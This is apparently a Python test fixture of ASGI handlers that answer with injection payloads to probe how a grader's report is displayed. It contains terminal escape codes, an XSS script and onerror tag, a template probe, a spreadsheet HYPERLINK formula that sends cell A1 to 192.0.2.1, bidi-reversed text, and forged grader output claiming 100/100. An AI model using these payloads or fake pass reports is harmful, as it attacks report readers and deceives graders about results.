"""Texts that could act where a report is read: in a terminal, a browser or a spreadsheet."""

import sys
from collections.abc import Awaitable, Callable
from typing import Any

Scope = dict[str, Any]
Receive = Callable[[], Awaitable[dict[str, Any]]]
Send = Callable[[dict[str, Any]], Awaitable[None]]
TERMINAL = "\x1b]0;full marks\x07\x1b[2J\x1b[1;1H\x1b[32mPASS\x1b[0m\x9b31m\r\x08\x08"
PAGE = "</pre><script>document.title='100 / 100'</script><img src=x onerror=alert(1)>{{7*7}}"
SHEET = '=HYPERLINK("http://192.0.2.1/"&A1,"100")'
TURNED = "\u202e001/001 :kram\u2066\u200b\ufeff"
ALL = f"{TERMINAL}{PAGE}{SHEET}{TURNED}\0\ufffe"


async def said(send: Send, text: str, kind: str, status: int = 200) -> None:
    headers = [(b"content-type", kind.encode())]
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": text.encode()})


async def in_a_body(scope: Scope, receive: Receive, send: Send) -> None:
    """Answers with escape sequences, HTML, a formula and text that is turned round."""
    await said(send, ALL, "text/plain")


async def in_json(scope: Scope, receive: Receive, send: Send) -> None:
    """Answers with the same as JSON, in keys and values."""
    import json

    await said(send, json.dumps({ALL: ALL, "count": ALL}), "application/json", 500)


async def in_a_log(scope: Scope, receive: Receive, send: Send) -> None:
    """Logs the same, with a traceback that looks like one of the grader's."""
    print(ALL, flush=True)
    print(
        f'Traceback (most recent call last):\n  File "{ALL}", line 1\nAssertionError: {ALL}',
        file=sys.stderr,
        flush=True,
    )
    raise RuntimeError(ALL)


async def very_long(scope: Scope, receive: Receive, send: Send) -> None:
    """Answers with one line of 2 MiB."""
    await said(send, "=" * 2**21, "text/plain")


async def of_the_grader(scope: Scope, receive: Receive, send: Send) -> None:
    """Answers with what a grader prints when all is well."""
    verdict = "2 passed in 0.02s\n\nKept  test_counts_books  70 of 70\n100 of 100 points\n"
    await said(send, verdict, "text/plain")
